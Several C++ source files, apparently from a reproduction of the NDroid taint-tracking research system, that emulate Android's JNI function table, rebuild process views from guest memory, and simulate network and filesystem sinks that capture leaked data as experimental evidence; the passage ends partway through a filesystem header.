// JNIEnv* is a pointer to a pointer to a table of function pointers, exactly
// as in the JNI spec: native code may resolve functions through the table
// (`ldr ip, [env]; ldr ip, [ip, #4*index]; blx ip`) or call the published
// symbol addresses directly.
//
// Two implementation styles, chosen per function:
//  * *stub-chained* — a guest stub whose internal calls to other libdvm
//    functions are real guest branches. Used where the paper's analysis
//    depends on the chain: the Call*Method family -> dvmCallMethod{V,A} ->
//    dvmInterpret (Table II / Fig. 5 multilevel hooking), the object-creation
//    NOF -> MAF pairs (Table III / Fig. 6), and ThrowNew -> initException ->
//    dvmCreateStringFromCstr -> dvmCallMethodV (§V-B "Exception").
//  * *helper-backed* — the function address dispatches straight into C++.
//    Entry/exit are still guest branch events, which is all NDroid needs to
//    hook the field accessors (Table IV) and GetStringUTFChars-style
//    functions (Figs. 7, 8).
//
// None of these functions propagates taint: that is precisely TaintDroid's
// JNI blind spot (paper §IV); NDroid's hook engines add the propagation.
#pragma once

#include <map>
#include <string>

#include "dvm/dvm.h"
#include "os/kernel.h"

namespace ndroid::jni {

/// Table indices (subset of the JNI spec's layout, same ordering idea).
enum class JniFn : u32 {
  kFindClass = 0,
  kGetMethodID,
  kGetStaticMethodID,
  kGetFieldID,
  kGetStaticFieldID,
  kNewObject,
  kNewObjectV,
  kNewObjectA,
  kNewString,
  kNewStringUTF,
  kNewObjectArray,
  kNewIntArray,
  kNewByteArray,
  kNewCharArray,
  kNewBooleanArray,
  kGetStringLength,
  kGetStringUTFChars,
  kReleaseStringUTFChars,
  kGetArrayLength,
  kGetIntArrayElements,
  kGetByteArrayElements,
  kReleaseIntArrayElements,
  kReleaseByteArrayElements,
  kGetIntArrayRegion,
  kSetIntArrayRegion,
  kGetByteArrayRegion,
  kSetByteArrayRegion,
  kGetObjectArrayElement,
  kSetObjectArrayElement,
  kCallVoidMethod,
  kCallVoidMethodV,
  kCallVoidMethodA,
  kCallIntMethod,
  kCallIntMethodV,
  kCallIntMethodA,
  kCallObjectMethod,
  kCallObjectMethodV,
  kCallObjectMethodA,
  kCallNonvirtualVoidMethod,
  kCallNonvirtualVoidMethodV,
  kCallNonvirtualVoidMethodA,
  kCallNonvirtualIntMethod,
  kCallNonvirtualIntMethodV,
  kCallNonvirtualIntMethodA,
  kCallNonvirtualObjectMethod,
  kCallNonvirtualObjectMethodV,
  kCallNonvirtualObjectMethodA,
  kCallStaticVoidMethod,
  kCallStaticVoidMethodV,
  kCallStaticVoidMethodA,
  kCallStaticIntMethod,
  kCallStaticIntMethodV,
  kCallStaticIntMethodA,
  kCallStaticObjectMethod,
  kCallStaticObjectMethodV,
  kCallStaticObjectMethodA,
  kGetObjectField,
  kGetIntField,
  kGetBooleanField,
  kGetByteField,
  kGetCharField,
  kGetShortField,
  kGetFloatField,
  kSetObjectField,
  kSetIntField,
  kSetBooleanField,
  kSetByteField,
  kSetCharField,
  kSetShortField,
  kSetFloatField,
  kGetStaticObjectField,
  kGetStaticIntField,
  kSetStaticObjectField,
  kSetStaticIntField,
  kThrowNew,
  kExceptionOccurred,
  kExceptionClear,
  kDeleteLocalRef,
  kNewGlobalRef,
  kGetObjectClass,
  kPushLocalFrame,
  kPopLocalFrame,
  kIsSameObject,
  kCount,
};

class JniEnv {
 public:
  JniEnv(dvm::Dvm& dvm, os::Kernel& kernel);

  JniEnv(const JniEnv&) = delete;
  JniEnv& operator=(const JniEnv&) = delete;

  /// The JNIEnv* value native methods receive in R0.
  [[nodiscard]] GuestAddr env_addr() const { return env_addr_; }

  /// Guest address of a JNI function by name (e.g. "NewStringUTF").
  [[nodiscard]] GuestAddr fn(const std::string& name) const;
  [[nodiscard]] GuestAddr fn(JniFn index) const;

  /// All published function symbols (hook engines iterate these the way
  /// NDroid derived offsets by disassembling libdvm.so, §V-G).
  [[nodiscard]] const std::map<std::string, GuestAddr>& symbols() const {
    return symbols_;
  }

 private:
  void build();
  GuestAddr add_helper_fn(const std::string& name, JniFn index,
                          arm::Helper helper);
  void publish(const std::string& name, JniFn index, GuestAddr addr);
  void build_call_method_family();
  void build_object_creation();
  void build_throw_new();

  dvm::Dvm& dvm_;
  os::Kernel& kernel_;
  GuestAddr env_addr_ = 0;
  GuestAddr table_addr_ = 0;
  std::map<std::string, GuestAddr> symbols_;
};

}  // namespace ndroid::jni
