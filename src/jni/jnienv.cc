#include "jni/jnienv.h"

#include <algorithm>

#include "arm/assembler.h"

namespace ndroid::jni {

using arm::Assembler;
using arm::LR;
using arm::PC;
using arm::R;
using dvm::Object;

JniEnv::JniEnv(dvm::Dvm& dvm, os::Kernel& kernel)
    : dvm_(dvm), kernel_(kernel) {
  // JNIEnv* -> table pointer -> function pointers.
  table_addr_ = dvm_.data_alloc(4 * static_cast<u32>(JniFn::kCount));
  env_addr_ = dvm_.data_alloc(4);
  dvm_.memory().write32(env_addr_, table_addr_);
  build();
  dvm_.set_jnienv_addr(env_addr_);
}

GuestAddr JniEnv::fn(const std::string& name) const {
  auto it = symbols_.find(name);
  if (it == symbols_.end()) throw GuestFault("no JNI function: " + name);
  return it->second;
}

GuestAddr JniEnv::fn(JniFn index) const {
  return dvm_.memory().read32(table_addr_ + 4 * static_cast<u32>(index));
}

void JniEnv::publish(const std::string& name, JniFn index, GuestAddr addr) {
  symbols_[name] = addr;
  dvm_.memory().write32(table_addr_ + 4 * static_cast<u32>(index), addr);
}

GuestAddr JniEnv::add_helper_fn(const std::string& name, JniFn index,
                                arm::Helper helper) {
  // Helper-backed functions still get a one-instruction guest landing pad
  // inside libdvm.so so their addresses look like library code; the pad
  // tail-calls the helper.
  const GuestAddr haddr = dvm_.cpu().register_helper_auto(std::move(helper));
  Assembler a(0);
  a.push({LR});
  a.call(haddr);
  a.pop({PC});
  const auto code = a.finish();
  const GuestAddr addr = dvm_.stub_alloc(name, code);
  publish(name, index, addr);
  return addr;
}

namespace {

Object* decode_or_null(dvm::Dvm& dvm, u32 iref) {
  return iref == 0 ? nullptr : dvm.irt().decode(iref);
}

u32 to_local_ref(dvm::Dvm& dvm, u32 real_addr) {
  if (real_addr == 0) return 0;
  Object* obj = dvm.heap().object_at(real_addr);
  if (obj == nullptr) throw GuestFault("to_local_ref: not an object address");
  return dvm.irt().add(obj);
}

}  // namespace

void JniEnv::build() {
  auto& dvm = dvm_;

  // --- Class / method / field resolution ---------------------------------
  add_helper_fn("FindClass", JniFn::kFindClass, [&dvm](arm::Cpu& c) {
    const std::string desc = c.memory().read_cstr(c.state().regs[1]);
    // JNI accepts both "java/lang/String" and "Ljava/lang/String;".
    std::string norm = desc;
    if (!norm.empty() && norm.front() != 'L' && norm.front() != '[') {
      norm = "L" + norm + ";";
    }
    dvm::ClassObject* cls = dvm.find_class(norm);
    c.state().regs[0] = cls ? dvm.class_mirror(cls) : 0;
  });

  auto method_id_helper = [&dvm](arm::Cpu& c) {
    dvm::ClassObject* cls = dvm.class_at(c.state().regs[1]);
    const std::string name = c.memory().read_cstr(c.state().regs[2]);
    dvm::Method* m = cls->find_method(name);
    c.state().regs[0] = m ? m->guest_addr : 0;
  };
  add_helper_fn("GetMethodID", JniFn::kGetMethodID, method_id_helper);
  add_helper_fn("GetStaticMethodID", JniFn::kGetStaticMethodID,
                method_id_helper);

  add_helper_fn("GetFieldID", JniFn::kGetFieldID, [&dvm](arm::Cpu& c) {
    dvm::ClassObject* cls = dvm.class_at(c.state().regs[1]);
    const std::string name = c.memory().read_cstr(c.state().regs[2]);
    c.state().regs[0] = dvm.field_id(cls, name, /*is_static=*/false);
  });
  add_helper_fn("GetStaticFieldID", JniFn::kGetStaticFieldID,
                [&dvm](arm::Cpu& c) {
                  dvm::ClassObject* cls = dvm.class_at(c.state().regs[1]);
                  const std::string name =
                      c.memory().read_cstr(c.state().regs[2]);
                  c.state().regs[0] = dvm.field_id(cls, name, true);
                });

  // --- Strings and arrays (helper-backed accessors) ----------------------
  add_helper_fn("GetStringLength", JniFn::kGetStringLength,
                [&dvm](arm::Cpu& c) {
                  Object* s = decode_or_null(dvm, c.state().regs[1]);
                  c.state().regs[0] =
                      s ? static_cast<u32>(dvm.heap().read_string(*s).size())
                        : 0;
                });

  add_helper_fn(
      "GetStringUTFChars", JniFn::kGetStringUTFChars,
      [&dvm, this](arm::Cpu& c) {
        Object* s = decode_or_null(dvm, c.state().regs[1]);
        if (s == nullptr) {
          c.state().regs[0] = 0;
          return;
        }
        const std::string utf = dvm.heap().read_string(*s);
        const GuestAddr buf =
            kernel_.mmap_anonymous(static_cast<u32>(utf.size()) + 1);
        c.memory().write_cstr(buf, utf);
        if (const u32 is_copy = c.state().regs[2]; is_copy != 0) {
          c.memory().write8(is_copy, 1);
        }
        c.state().regs[0] = buf;
        // Taint of the string object is NOT propagated to the buffer here —
        // TaintDroid's gap; NDroid's hook on this function repairs it.
      });

  add_helper_fn("ReleaseStringUTFChars", JniFn::kReleaseStringUTFChars,
                [](arm::Cpu& c) { c.state().regs[0] = 0; });

  add_helper_fn("GetArrayLength", JniFn::kGetArrayLength,
                [&dvm](arm::Cpu& c) {
                  Object* a = decode_or_null(dvm, c.state().regs[1]);
                  c.state().regs[0] = a ? a->length() : 0;
                });

  auto get_array_elements = [&dvm, this](arm::Cpu& c) {
    Object* a = decode_or_null(dvm, c.state().regs[1]);
    if (a == nullptr) {
      c.state().regs[0] = 0;
      return;
    }
    const u32 bytes = a->length() * a->elem_size();
    const GuestAddr buf = kernel_.mmap_anonymous(std::max<u32>(bytes, 1));
    c.memory().copy(buf, dvm.heap().array_data_addr(*a), bytes);
    if (const u32 is_copy = c.state().regs[2]; is_copy != 0) {
      c.memory().write8(is_copy, 1);
    }
    c.state().regs[0] = buf;
  };
  add_helper_fn("GetIntArrayElements", JniFn::kGetIntArrayElements,
                get_array_elements);
  add_helper_fn("GetByteArrayElements", JniFn::kGetByteArrayElements,
                get_array_elements);

  auto release_array_elements = [&dvm](arm::Cpu& c) {
    // mode 0: copy back and free.
    Object* a = decode_or_null(dvm, c.state().regs[1]);
    const GuestAddr buf = c.state().regs[2];
    if (a != nullptr && buf != 0 && c.state().regs[3] == 0) {
      c.memory().copy(dvm.heap().array_data_addr(*a), buf,
                      a->length() * a->elem_size());
    }
    c.state().regs[0] = 0;
  };
  add_helper_fn("ReleaseIntArrayElements", JniFn::kReleaseIntArrayElements,
                release_array_elements);
  add_helper_fn("ReleaseByteArrayElements",
                JniFn::kReleaseByteArrayElements, release_array_elements);

  // Region functions take 5 args; the 5th is on the native stack. These are
  // registered as direct helper addresses (no landing pad) so the helper
  // sees the caller's SP unmodified when reading the stacked argument.
  auto direct_helper_fn = [this](const std::string& name, JniFn index,
                                 arm::Helper helper) {
    const GuestAddr addr =
        dvm_.cpu().register_helper_auto(std::move(helper));
    publish(name, index, addr);
  };
  auto array_region = [&dvm](arm::Cpu& c, bool set) {
    Object* a = decode_or_null(dvm, c.state().regs[1]);
    if (a == nullptr) return;
    const u32 start = c.state().regs[2];
    const u32 len = c.state().regs[3];
    const GuestAddr buf = c.memory().read32(c.state().sp());
    if (start + len > a->length()) {
      throw GuestFault("ArrayIndexOutOfBounds in array region");
    }
    const GuestAddr data =
        dvm.heap().array_data_addr(*a) + start * a->elem_size();
    const u32 bytes = len * a->elem_size();
    if (set) {
      c.memory().copy(data, buf, bytes);
    } else {
      c.memory().copy(buf, data, bytes);
    }
    c.state().regs[0] = 0;
  };
  direct_helper_fn("GetIntArrayRegion", JniFn::kGetIntArrayRegion,
                   [array_region](arm::Cpu& c) { array_region(c, false); });
  direct_helper_fn("SetIntArrayRegion", JniFn::kSetIntArrayRegion,
                   [array_region](arm::Cpu& c) { array_region(c, true); });
  direct_helper_fn("GetByteArrayRegion", JniFn::kGetByteArrayRegion,
                   [array_region](arm::Cpu& c) { array_region(c, false); });
  direct_helper_fn("SetByteArrayRegion", JniFn::kSetByteArrayRegion,
                   [array_region](arm::Cpu& c) { array_region(c, true); });

  add_helper_fn("GetObjectArrayElement", JniFn::kGetObjectArrayElement,
                [&dvm](arm::Cpu& c) {
                  Object* a = decode_or_null(dvm, c.state().regs[1]);
                  if (a == nullptr) {
                    c.state().regs[0] = 0;
                    return;
                  }
                  const u32 direct =
                      dvm.heap().array_get(*a, c.state().regs[2]);
                  c.state().regs[0] = to_local_ref(dvm, direct);
                });
  add_helper_fn("SetObjectArrayElement", JniFn::kSetObjectArrayElement,
                [&dvm](arm::Cpu& c) {
                  Object* a = decode_or_null(dvm, c.state().regs[1]);
                  Object* v = decode_or_null(dvm, c.state().regs[3]);
                  if (a != nullptr) {
                    dvm.heap().array_set(*a, c.state().regs[2],
                                         v ? v->addr() : 0);
                  }
                  c.state().regs[0] = 0;
                });

  // --- Field access (Table IV) --------------------------------------------
  auto get_field = [&dvm](arm::Cpu& c, bool to_ref) {
    Object* obj = decode_or_null(dvm, c.state().regs[1]);
    const auto fr = dvm.decode_field_id(c.state().regs[2]);
    if (obj == nullptr) throw GuestFault("Get*Field on null object");
    const dvm::Slot& slot = obj->fields().at(fr.field->index);
    c.state().regs[0] = to_ref ? to_local_ref(dvm, slot.value) : slot.value;
  };
  add_helper_fn("GetObjectField", JniFn::kGetObjectField,
                [get_field](arm::Cpu& c) { get_field(c, true); });
  for (auto [name, idx] :
       std::initializer_list<std::pair<const char*, JniFn>>{
           {"GetIntField", JniFn::kGetIntField},
           {"GetBooleanField", JniFn::kGetBooleanField},
           {"GetByteField", JniFn::kGetByteField},
           {"GetCharField", JniFn::kGetCharField},
           {"GetShortField", JniFn::kGetShortField},
           {"GetFloatField", JniFn::kGetFloatField}}) {
    add_helper_fn(name, idx,
                  [get_field](arm::Cpu& c) { get_field(c, false); });
  }

  auto set_field = [&dvm](arm::Cpu& c, bool from_ref) {
    Object* obj = decode_or_null(dvm, c.state().regs[1]);
    const auto fr = dvm.decode_field_id(c.state().regs[2]);
    if (obj == nullptr) throw GuestFault("Set*Field on null object");
    dvm::Slot& slot = obj->fields().at(fr.field->index);
    const u32 raw = c.state().regs[3];
    slot.value = from_ref && raw != 0 ? dvm.irt().decode(raw)->addr() : raw;
    // Taint slot untouched: native-side taints are invisible to the DVM
    // (the case 1'/3 gap). NDroid hooks Set*Field to write the taint.
    dvm.heap().sync_payload(*obj);
    c.state().regs[0] = 0;
  };
  add_helper_fn("SetObjectField", JniFn::kSetObjectField,
                [set_field](arm::Cpu& c) { set_field(c, true); });
  for (auto [name, idx] :
       std::initializer_list<std::pair<const char*, JniFn>>{
           {"SetIntField", JniFn::kSetIntField},
           {"SetBooleanField", JniFn::kSetBooleanField},
           {"SetByteField", JniFn::kSetByteField},
           {"SetCharField", JniFn::kSetCharField},
           {"SetShortField", JniFn::kSetShortField},
           {"SetFloatField", JniFn::kSetFloatField}}) {
    add_helper_fn(name, idx,
                  [set_field](arm::Cpu& c) { set_field(c, false); });
  }

  add_helper_fn("GetStaticObjectField", JniFn::kGetStaticObjectField,
                [&dvm](arm::Cpu& c) {
                  const auto fr = dvm.decode_field_id(c.state().regs[2]);
                  const dvm::Slot& slot = fr.cls->statics().at(fr.field->index);
                  c.state().regs[0] = to_local_ref(dvm, slot.value);
                });
  add_helper_fn("GetStaticIntField", JniFn::kGetStaticIntField,
                [&dvm](arm::Cpu& c) {
                  const auto fr = dvm.decode_field_id(c.state().regs[2]);
                  c.state().regs[0] = fr.cls->statics().at(fr.field->index).value;
                });
  add_helper_fn("SetStaticObjectField", JniFn::kSetStaticObjectField,
                [&dvm](arm::Cpu& c) {
                  const auto fr = dvm.decode_field_id(c.state().regs[2]);
                  const u32 raw = c.state().regs[3];
                  fr.cls->statics().at(fr.field->index).value =
                      raw == 0 ? 0 : dvm.irt().decode(raw)->addr();
                  c.state().regs[0] = 0;
                });
  add_helper_fn("SetStaticIntField", JniFn::kSetStaticIntField,
                [&dvm](arm::Cpu& c) {
                  const auto fr = dvm.decode_field_id(c.state().regs[2]);
                  fr.cls->statics().at(fr.field->index).value =
                      c.state().regs[3];
                  c.state().regs[0] = 0;
                });

  // --- References / exceptions -------------------------------------------
  add_helper_fn("ExceptionOccurred", JniFn::kExceptionOccurred,
                [&dvm](arm::Cpu& c) {
                  Object* exc = dvm.pending_exception;
                  c.state().regs[0] = exc ? dvm.irt().add(exc) : 0;
                });
  add_helper_fn("ExceptionClear", JniFn::kExceptionClear,
                [&dvm](arm::Cpu& c) {
                  dvm.pending_exception = nullptr;
                  c.state().regs[0] = 0;
                });
  add_helper_fn("DeleteLocalRef", JniFn::kDeleteLocalRef,
                [&dvm](arm::Cpu& c) {
                  dvm.irt().remove(c.state().regs[1]);
                  c.state().regs[0] = 0;
                });
  add_helper_fn("NewGlobalRef", JniFn::kNewGlobalRef, [&dvm](arm::Cpu& c) {
    Object* obj = decode_or_null(dvm, c.state().regs[1]);
    c.state().regs[0] =
        obj ? dvm.irt().add(obj, dvm::RefKind::kGlobal) : 0;
  });
  add_helper_fn("GetObjectClass", JniFn::kGetObjectClass,
                [&dvm](arm::Cpu& c) {
                  Object* obj = decode_or_null(dvm, c.state().regs[1]);
                  c.state().regs[0] = obj && obj->clazz()
                                          ? dvm.class_mirror(obj->clazz())
                                          : 0;
                });
  add_helper_fn("PushLocalFrame", JniFn::kPushLocalFrame,
                [&dvm](arm::Cpu& c) {
                  dvm.irt().push_frame();
                  c.state().regs[0] = 0;  // JNI_OK
                });
  add_helper_fn("PopLocalFrame", JniFn::kPopLocalFrame,
                [&dvm](arm::Cpu& c) {
                  c.state().regs[0] = dvm.irt().pop_frame(c.state().regs[1]);
                });
  add_helper_fn("IsSameObject", JniFn::kIsSameObject, [&dvm](arm::Cpu& c) {
    Object* a = decode_or_null(dvm, c.state().regs[1]);
    Object* b = decode_or_null(dvm, c.state().regs[2]);
    c.state().regs[0] = a == b ? 1 : 0;
  });

  build_object_creation();
  build_call_method_family();
  build_throw_new();
}

// --- Object creation: NOF stubs wrapping MAF guest calls (Table III) ------

void JniEnv::build_object_creation() {
  auto& dvm = dvm_;
  const GuestAddr h_to_ref =
      dvm_.cpu().register_helper_auto([&dvm](arm::Cpu& c) {
        c.state().regs[0] = to_local_ref(dvm, c.state().regs[0]);
      });

  // NewStringUTF(env, cstr) -> dvmCreateStringFromCstr(cstr) -> iref.
  {
    Assembler a(0);
    a.push({LR});
    a.mov(R(0), R(1));
    a.call(dvm_.sym("dvmCreateStringFromCstr"));
    a.call(h_to_ref);
    a.pop({PC});
    const auto code = a.finish();
    publish("NewStringUTF", JniFn::kNewStringUTF,
            dvm_.stub_alloc("NewStringUTF", code));
  }

  // NewString(env, jchar*, len) -> dvmCreateStringFromUnicode.
  {
    Assembler a(0);
    a.push({LR});
    a.mov(R(0), R(1));
    a.mov(R(1), R(2));
    a.call(dvm_.sym("dvmCreateStringFromUnicode"));
    a.call(h_to_ref);
    a.pop({PC});
    const auto code = a.finish();
    publish("NewString", JniFn::kNewString,
            dvm_.stub_alloc("NewString", code));
  }

  // NewObject{,V,A}(env, jclass, ctor, args...) -> dvmAllocObject.
  // Constructor invocation is elided (scenario classes use default init).
  for (auto [name, idx] :
       std::initializer_list<std::pair<const char*, JniFn>>{
           {"NewObject", JniFn::kNewObject},
           {"NewObjectV", JniFn::kNewObjectV},
           {"NewObjectA", JniFn::kNewObjectA}}) {
    Assembler a(0);
    a.push({LR});
    a.mov(R(0), R(1));
    a.call(dvm_.sym("dvmAllocObject"));
    a.call(h_to_ref);
    a.pop({PC});
    const auto code = a.finish();
    publish(name, idx, dvm_.stub_alloc(name, code));
  }

  // NewObjectArray(env, len, jclass, init) -> dvmAllocArrayByClass(cls, len).
  {
    Assembler a(0);
    a.push({LR});
    a.mov(R(0), R(2));  // class
    // r1 already = len
    a.call(dvm_.sym("dvmAllocArrayByClass"));
    a.call(h_to_ref);
    a.pop({PC});
    const auto code = a.finish();
    publish("NewObjectArray", JniFn::kNewObjectArray,
            dvm_.stub_alloc("NewObjectArray", code));
  }

  // New<Prim>Array(env, len) -> dvmAllocPrimitiveArray(elem_size, len).
  for (auto [name, idx, elem_size] :
       std::initializer_list<std::tuple<const char*, JniFn, u32>>{
           {"NewIntArray", JniFn::kNewIntArray, 4},
           {"NewByteArray", JniFn::kNewByteArray, 1},
           {"NewCharArray", JniFn::kNewCharArray, 2},
           {"NewBooleanArray", JniFn::kNewBooleanArray, 1}}) {
    Assembler a(0);
    a.push({LR});
    a.mov_imm(R(0), elem_size);
    // r1 already = len
    a.call(dvm_.sym("dvmAllocPrimitiveArray"));
    a.call(h_to_ref);
    a.pop({PC});
    const auto code = a.finish();
    publish(name, idx, dvm_.stub_alloc(name, code));
  }
}

// --- Call*Method family (Table II) -----------------------------------------

void JniEnv::build_call_method_family() {
  auto& dvm = dvm_;
  const GuestAddr h_to_ref =
      dvm_.cpu().register_helper_auto([&dvm](arm::Cpu& c) {
        c.state().regs[0] = to_local_ref(dvm, c.state().regs[0]);
      });

  // Call<Kind><Type>Method<Form>(env, obj|cls, methodID, args_ptr):
  // marshals to dvmCallMethod{V,A}(method, receiver_iref, &jvalue, args).
  // Per Table II, the plain and V forms route to dvmCallMethodV and the A
  // form to dvmCallMethodA.
  struct Variant {
    const char* kind;   // "", "Nonvirtual", "Static"
    const char* type;   // "Void", "Int", "Object"
    const char* form;   // "", "V", "A"
  };
  for (const char* kind : {"", "Nonvirtual", "Static"}) {
    for (const char* type : {"Void", "Int", "Object"}) {
      for (const char* form : {"", "V", "A"}) {
        const std::string name =
            std::string("Call") + kind + type + "Method" + form;
        const char target = (form[0] == 'A') ? 'A' : 'V';
        const bool is_static = kind[0] == 'S';
        const bool ref_result = type[0] == 'O';

        Assembler a(0);
        a.push({R(4), LR});
        a.sub_imm(arm::SP, arm::SP, 8);  // JValue result slot
        a.mov(R(4), R(1));               // receiver iref (or jclass)
        a.mov(R(0), R(2));               // methodID
        if (is_static) {
          a.mov_imm(R(1), 0);            // statics ignore the receiver
        } else {
          a.mov(R(1), R(4));
        }
        a.mov(R(2), arm::SP);            // result ptr
        // r3 already = args_ptr
        a.call(dvm_.call_method_stub(target));
        a.ldr(R(0), arm::SP, 0);
        a.add_imm(arm::SP, arm::SP, 8);
        if (ref_result) a.call(h_to_ref);
        a.pop({R(4), PC});
        const auto code = a.finish();

        const u32 base_idx = static_cast<u32>(JniFn::kCallVoidMethod);
        const u32 kind_off = kind[0] == 'N' ? 9 : (kind[0] == 'S' ? 18 : 0);
        const u32 type_off = type[0] == 'I' ? 3 : (type[0] == 'O' ? 6 : 0);
        const u32 form_off = form[0] == 'V' ? 1 : (form[0] == 'A' ? 2 : 0);
        publish(name,
                static_cast<JniFn>(base_idx + kind_off + type_off + form_off),
                dvm_.stub_alloc(name, code));
      }
    }
  }
}

// --- ThrowNew -> initException -> dvmCreateStringFromCstr ------------------

void JniEnv::build_throw_new() {
  auto& dvm = dvm_;

  // initException(jclass, msg_string_real_addr): builds the exception object
  // around the already-created message string and sets it pending.
  const GuestAddr h_init_exc =
      dvm_.cpu().register_helper_auto([&dvm](arm::Cpu& c) {
        dvm::ClassObject* cls = dvm.class_at(c.state().regs[0]);
        Object* msg = dvm.heap().object_at(c.state().regs[1]);
        if (cls->find_instance_field("message") == nullptr) {
          cls->add_instance_field("message", 'L');
        }
        Object* exc = dvm.heap().new_instance(cls);
        const dvm::Field* f = cls->find_instance_field("message");
        exc->fields().at(f->index).value = msg ? msg->addr() : 0;
        dvm.heap().sync_payload(*exc);
        dvm.pending_exception = exc;
        c.state().regs[0] = exc->addr();
      });

  // initException stub: (jclass r0, msg_cstr r1)
  GuestAddr init_exception_addr;
  {
    Assembler a(0);
    a.push({R(4), LR});
    a.mov(R(4), R(0));  // save class
    a.mov(R(0), R(1));  // cstr
    a.call(dvm_.sym("dvmCreateStringFromCstr"));
    a.mov(R(1), R(0));  // msg string real addr
    a.mov(R(0), R(4));  // class
    a.call(h_init_exc);
    a.pop({R(4), PC});
    const auto code = a.finish();
    init_exception_addr = dvm_.stub_alloc("initException", code);
    symbols_["initException"] = init_exception_addr;
  }

  // ThrowNew(env, jclass, msg_cstr) -> initException(jclass, msg).
  {
    Assembler a(0);
    a.push({LR});
    a.mov(R(0), R(1));
    a.mov(R(1), R(2));
    a.call(init_exception_addr);
    a.mov_imm(R(0), 0);  // JNI_OK
    a.pop({PC});
    const auto code = a.finish();
    publish("ThrowNew", JniFn::kThrowNew, dvm_.stub_alloc("ThrowNew", code));
  }
}

}  // namespace ndroid::jni
