// OS-level view reconstructor (paper §V-F).
//
// "Motivated by DroidScope, NDroid employs virtual machine introspection to
// collect the information of processes and memory maps in Android's Linux
// kernel" — i.e. it rebuilds the OS view purely from guest memory, without
// asking the (possibly compromised) guest OS. This class walks the guest
// task list and per-process VMA chains starting from the init_task root
// pointer; it deliberately has no access to the Kernel object's host state.
#pragma once

#include <string>
#include <vector>

#include "mem/address_space.h"

namespace ndroid::os {

struct RegionView {
  GuestAddr start = 0;
  GuestAddr end = 0;
  std::string name;
};

struct ProcessView {
  u32 pid = 0;
  std::string name;
  std::vector<RegionView> regions;

  [[nodiscard]] const RegionView* find_module(std::string_view module) const;
  [[nodiscard]] std::string module_of(GuestAddr addr) const;
};

class ViewReconstructor {
 public:
  /// `task_root` is the guest address of the init_task pointer
  /// (Kernel::kTaskRoot in this reproduction; a kernel symbol in the paper).
  explicit ViewReconstructor(const mem::AddressSpace& memory,
                             GuestAddr task_root);

  /// Parses guest memory and returns the current process list.
  [[nodiscard]] std::vector<ProcessView> reconstruct() const;

  [[nodiscard]] const ProcessView* find_process(
      const std::vector<ProcessView>& views, std::string_view name) const;

 private:
  const mem::AddressSpace& memory_;
  GuestAddr task_root_;
};

}  // namespace ndroid::os
