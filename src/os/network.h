// Simulated network stack: connection tracking plus full packet capture.
//
// Outbound traffic is the paper's primary sink (Table VII: send*, sendto*):
// QQPhoneBook posts login data to sync.3g.qq.com, ePhone SIP-registers
// contacts to softphone.comwave.net (paper §VI-A/B). Captured packets are
// the ground-truth leak evidence experiments check against.
#pragma once

#include <span>
#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::os {

struct Socket {
  int id = -1;
  bool connected = false;
  std::string remote_host;
  u16 remote_port = 0;
};

struct Packet {
  int socket_id = -1;
  std::string dest_host;
  u16 dest_port = 0;
  std::vector<u8> payload;

  [[nodiscard]] std::string payload_str() const {
    return {reinterpret_cast<const char*>(payload.data()), payload.size()};
  }
};

class Network {
 public:
  int create_socket();
  void connect(int socket_id, std::string host, u16 port);
  void close(int socket_id);

  /// Records an outbound packet on a connected socket.
  void send(int socket_id, std::span<const u8> payload);

  /// Records an outbound packet with an explicit destination (UDP sendto).
  void sendto(int socket_id, std::string host, u16 port,
              std::span<const u8> payload);

  /// Simulated inbound data (tests inject responses here).
  void queue_recv(int socket_id, std::vector<u8> data);
  u32 recv(int socket_id, std::span<u8> out);

  [[nodiscard]] const Socket& socket(int socket_id) const;
  [[nodiscard]] const std::vector<Packet>& packets() const { return packets_; }
  void clear_packets() { packets_.clear(); }

  /// All bytes ever sent to `host`, concatenated (leak-evidence queries).
  [[nodiscard]] std::string bytes_sent_to(const std::string& host) const;

 private:
  Socket& socket_mut(int socket_id);

  std::vector<Socket> sockets_;
  std::vector<Packet> packets_;
  std::vector<std::pair<int, std::vector<u8>>> recv_queue_;
};

}  // namespace ndroid::os
