#include "os/network.h"

#include <algorithm>

namespace ndroid::os {

int Network::create_socket() {
  const int id = static_cast<int>(sockets_.size());
  sockets_.push_back(Socket{id, false, {}, 0});
  return id;
}

Socket& Network::socket_mut(int socket_id) {
  if (socket_id < 0 || socket_id >= static_cast<int>(sockets_.size())) {
    throw GuestFault("bad socket id " + std::to_string(socket_id));
  }
  return sockets_[static_cast<std::size_t>(socket_id)];
}

const Socket& Network::socket(int socket_id) const {
  return const_cast<Network*>(this)->socket_mut(socket_id);
}

void Network::connect(int socket_id, std::string host, u16 port) {
  Socket& s = socket_mut(socket_id);
  s.connected = true;
  s.remote_host = std::move(host);
  s.remote_port = port;
}

void Network::close(int socket_id) {
  Socket& s = socket_mut(socket_id);
  s.connected = false;
}

void Network::send(int socket_id, std::span<const u8> payload) {
  const Socket& s = socket_mut(socket_id);
  if (!s.connected) throw GuestFault("send on unconnected socket");
  packets_.push_back(Packet{socket_id, s.remote_host, s.remote_port,
                            {payload.begin(), payload.end()}});
}

void Network::sendto(int socket_id, std::string host, u16 port,
                     std::span<const u8> payload) {
  socket_mut(socket_id);  // validate
  packets_.push_back(Packet{socket_id, std::move(host), port,
                            {payload.begin(), payload.end()}});
}

void Network::queue_recv(int socket_id, std::vector<u8> data) {
  recv_queue_.emplace_back(socket_id, std::move(data));
}

u32 Network::recv(int socket_id, std::span<u8> out) {
  for (auto it = recv_queue_.begin(); it != recv_queue_.end(); ++it) {
    if (it->first != socket_id) continue;
    const u32 n = static_cast<u32>(std::min(out.size(), it->second.size()));
    std::copy_n(it->second.begin(), n, out.begin());
    if (n == it->second.size()) {
      recv_queue_.erase(it);
    } else {
      it->second.erase(it->second.begin(), it->second.begin() + n);
    }
    return n;
  }
  return 0;
}

std::string Network::bytes_sent_to(const std::string& host) const {
  std::string out;
  for (const Packet& p : packets_) {
    if (p.dest_host == host) out += p.payload_str();
  }
  return out;
}

}  // namespace ndroid::os
