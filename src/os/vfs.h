// In-memory virtual filesystem (the guest's /sdcard, /data, /proc...).
//
// File writes are the paper's non-network sink class (Table VII: fwrite*,
// fputc*, fputs*, write*): the PoC of case 2 leaks contacts into
// /sdcard/CONTACTS via fprintf (paper Fig. 8). Every write is retained so
// experiments can present the leaked bytes as evidence.
#pragma once

#include <map>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::os {

class Vfs {
 public:
  [[nodiscard]] bool exists(const std::string& path) const;

  void create(const std::string& path, std::vector<u8> content = {});
  void remove(const std::string& path);

